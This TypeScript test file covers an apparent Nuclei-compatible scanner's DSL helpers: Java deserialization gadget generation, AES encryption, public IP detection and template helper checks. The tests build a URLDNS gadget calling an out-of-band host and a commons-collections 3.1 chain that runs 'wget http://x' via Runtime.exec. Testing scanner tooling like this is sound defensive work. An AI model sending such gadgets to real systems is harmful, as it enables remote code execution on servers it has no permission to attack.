import { createDecipheriv, createHash } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { evaluateDsl } from '../../src/nuclei/dsl/evaluate.js';
import { publicIp } from '../../src/nuclei/dsl/public-ip.js';
import { missingHelpers } from '../../src/nuclei/load/dsl-helpers-used.js';

const call = (expr: string): string => evaluateDsl(expr, new Map()) as string;
const bytes = (s: string) => Buffer.from(s, 'latin1');

describe('generate_java_gadget', () => {
  it('builds the URLDNS stream: a HashMap keyed by a java.net.URL with its hash unset', () => {
    const hex = call(`generate_java_gadget('dns', 'http://x.oast.fun', 'hex')`);
    const stream = Buffer.from(hex, 'hex');
    expect(stream.subarray(0, 4).toString('hex')).toBe('aced0005');
    const text = stream.toString('latin1');
    expect(text.indexOf('java.util.HashMap')).toBe(8);
    expect(text).toContain('java.net.URL');
    // hashCode -1, port -1, authority "x.oast.fun", file "", host = back-reference to the authority
    expect(hex).toContain(
      `ffffffffffffffff7400${'0a'}${Buffer.from('x.oast.fun').toString('hex')}74000071007e0005`,
    );
    expect(
      hex.endsWith(`7400${(17).toString(16)}${Buffer.from('http://x.oast.fun').toString('hex')}78`),
    ).toBe(true);
    // The same bytes Nuclei sends for this call (compared byte for byte with its output).
    expect(createHash('sha256').update(stream).digest('hex')).toBe(
      '1f5340f3eee689a21e2d5df4f41d006b51270b0a392b7abe0e742ddb54b8de8e',
    );
  });

  it('writes a URL without a scheme with an empty host, as Go parses it', () => {
    const text = bytes(call(`generate_java_gadget('dns', 'x.oast.fun', 'raw')`)).toString('latin1');
    expect(text).toContain('\u0074\u0000\u0000'); // empty host string
    expect(text.endsWith('\u0000\u000ax.oast.fun\u0078')).toBe(true);
  });

  it('builds the commons-collections 3.1 chain that runs the command', () => {
    const stream = bytes(call(`generate_java_gadget('commons-collections3.1', 'wget http://x', 'raw')`));
    const text = stream.toString('latin1');
    expect(stream.length).toBe(1289);
    for (const part of [
      'java.util.HashSet',
      'TiedMapEntry',
      'LazyMap',
      'ChainedTransformer',
      'getRuntime',
      'exec',
    ])
      expect(text).toContain(part);
    expect(text).toContain('\u0074\u0000\u000dwget http://x');
    // Byte for byte Nuclei's stream for this command (with the TiedMapEntry key "didban").
    expect(createHash('sha256').update(stream).digest('hex')).toBe(
      '3b23f4718563ea9539aefcafd274bd45e21d57f683d06b71d2314a75aa0e52a9',
    );
  });

  it('encodes as Nuclei: base64 with + escaped by default, base64-raw, hex, gzip, gzip-base64', () => {
    const raw = bytes(call(`generate_java_gadget('dns', 'http://x.oast.fun', 'raw')`));
    const std = raw.toString('base64');
    expect(call(`generate_java_gadget('dns', 'http://x.oast.fun', 'base64-raw')`)).toBe(std);
    expect(call(`generate_java_gadget('dns', 'http://x.oast.fun', 'base64')`)).toBe(
      std.replaceAll('+', '%2B'),
    );
    expect(call(`generate_java_gadget('dns', 'http://x.oast.fun', 'hex')`)).toBe(raw.toString('hex'));
    expect(gunzipSync(bytes(call(`generate_java_gadget('dns', 'http://x.oast.fun', 'gzip')`)))).toEqual(raw);
    const gz = call(`generate_java_gadget('dns', 'http://x.oast.fun', 'gzip-base64')`).replaceAll('%2B', '+');
    expect(gunzipSync(Buffer.from(gz, 'base64'))).toEqual(raw);
  });

  it('gives an empty string for an unknown gadget and refuses those it does not build', () => {
    expect(call(`generate_java_gadget('nope', 'x', 'raw')`)).toBe('');
    expect(() => call(`generate_java_gadget('groovy1', 'id', 'raw')`)).toThrow(/groovy1 gadget is not built/);
  });
});

describe('aes_cbc and aes_gcm', () => {
  it('aes_cbc(value, key, iv) is AES-CBC with PKCS#5 padding (same bytes as openssl enc)', () => {
    const out = bytes(call(`aes_cbc('text', '0123456789abcdef', 'fedcba9876543210')`));
    expect(out.toString('hex')).toBe('671dd381ccc6c7e3c2c1f1a386a9cba3');
  });

  it('refuses a key that is not 16, 24 or 32 bytes and an iv that is not 16', () => {
    expect(() => call(`aes_cbc('text', 'short', 'fedcba9876543210')`)).toThrow(/invalid key size 5/);
    expect(() => call(`aes_cbc('text', '0123456789abcdef', 'iv')`)).toThrow(/iv must be 16 bytes/);
  });

  it('aes_gcm(key, value) seals with a random nonce in front and the tag behind', () => {
    const key = '0123456789abcdef0123456789abcdef';
    const sealed = bytes(call(`aes_gcm('${key}', 'secret value')`));
    const decipher = createDecipheriv('aes-256-gcm', Buffer.from(key), sealed.subarray(0, 12));
    decipher.setAuthTag(sealed.subarray(-16));
    const plain = Buffer.concat([decipher.update(sealed.subarray(12, -16)), decipher.final()]);
    expect(plain.toString()).toBe('secret value');
  });
});

describe('public_ip', () => {
  it('is the configured address when the operator sets one', () => {
    expect(publicIp({ DIDBAN_ENGINE_PUBLIC_IP: '203.0.113.7' })).toBe('203.0.113.7');
    expect(() => publicIp({ DIDBAN_ENGINE_PUBLIC_IP: 'my-host' })).toThrow(/not an IP address/);
  });

  it('otherwise is a public IPv4 address of this machine, never a private one', () => {
    const nic = (address: string, internal = false) => ({
      address,
      internal,
      family: 'IPv4' as const,
      netmask: '255.255.255.0',
      mac: '00:00:00:00:00:00',
      cidr: `${address}/24`,
    });
    expect(
      publicIp({}, { lo: [nic('127.0.0.1', true)], eth0: [nic('10.0.0.5')], eth1: [nic('93.184.216.34')] }),
    ).toBe('93.184.216.34');
    // Only loopback and private addresses: the tenant's template must not learn them.
    expect(() =>
      publicIp({}, { lo: [nic('127.0.0.1', true)], eth0: [nic('10.0.0.5')], eth1: [nic('192.168.1.4')] }),
    ).toThrow('could not retrieve public ip');
  });
});

describe('missing helpers at load', () => {
  it('no helper the community templates call is missing any more', () => {
    const raw = {
      id: 'x',
      http: [
        {
          raw: [
            `POST / HTTP/1.1\nCookie: a={{base64(aes_cbc(base64_decode(generate_java_gadget("dns", "http://{{interactsh-url}}", "base64")), "k", "iv"))}}\nX: {{public_ip()}}\n\nx`,
          ],
        },
      ],
    };
    expect(missingHelpers(raw)).toEqual([]);
  });

  it('a placeholder calling a name Nuclei does not know is text, not a missing helper', () => {
    expect(missingHelpers({ id: 'x', http: [{ headers: { Cookie: "{{shell_exec('id')}}" } }] })).toEqual([]);
  });

  it('a Nuclei helper the engine lacks is still reported, and any unknown name in a dsl matcher', () => {
    expect(missingHelpers({ id: 'x', http: [{ body: "{{llm_prompt('hi')}}" }] })).toEqual(['llm_prompt']);
    expect(
      missingHelpers({ id: 'x', http: [{ matchers: [{ type: 'dsl', dsl: ['shell_exec("id")'] }] }] }),
    ).toEqual(['shell_exec']);
  });
});

describe('sort and uniq', () => {
  it('sort orders the characters of one argument, or several arguments as a list', () => {
    expect(call(`sort('banana')`)).toBe('aaabnn');
    expect(evaluateDsl(`sort('b', 'a', 'c')`, new Map())).toEqual(['a', 'b', 'c']);
  });

  it('uniq keeps the first of each character, or of each argument', () => {
    expect(call(`uniq('banana')`)).toBe('ban');
    expect(evaluateDsl(`uniq('a', 'b', 'a')`, new Map())).toEqual(['a', 'b']);
  });
});
